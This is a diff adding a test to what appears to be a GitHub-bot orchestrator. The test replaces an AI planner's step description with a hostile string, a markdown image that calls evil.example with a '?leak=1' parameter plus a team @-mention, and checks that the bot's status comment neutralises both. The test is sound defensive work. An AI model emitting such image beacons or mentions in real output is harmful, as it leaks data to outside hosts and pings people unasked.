@@ -64,3 +64,29 @@ describe("nothing hidden goes out", () => {
     for (const pull of h.github.pulls) expect(pull.title).toBe("Add a truncate helper");
   });
 });
+
+describe("a /status is the engine's status", () => {
+  it("a step description with a team mention and an outside image is neutralised as in the engine's own status", async () => {
+    const cassette = await demoCassette();
+    const hostile = "Add it ![p](https://evil.example/p.png?leak=1) and ping @acme/security-team";
+    const calls = cassette.calls.map((c) => {
+      if (c.role !== "planner") return c;
+      const plan = c.object as { steps: { description: string }[] };
+      return {
+        ...c,
+        object: { ...plan, steps: plan.steps.map((s) => ({ ...s, description: hostile })) },
+      };
+    });
+    h = await appHarness({ cassette: { ...cassette, calls } });
+    await h.deliver("issues", h.labeled());
+    const status = (x: AppHarness): string =>
+      x.github.issueComments(42).find((c) => c.body.includes("orchestrator:status:42"))?.body ?? "";
+    const before = status(h);
+    expect(before).toContain("evil.example");
+    await h.deliver("issue_comment", h.comment("/status"));
+    const after = status(h);
+    expect(after).toBe(before);
+    expect(after).not.toMatch(/!\[[^\]]*\]\(https:\/\/evil/);
+    expect(after).not.toMatch(/(^|[^`])@acme\/security-team/);
+  });
+});
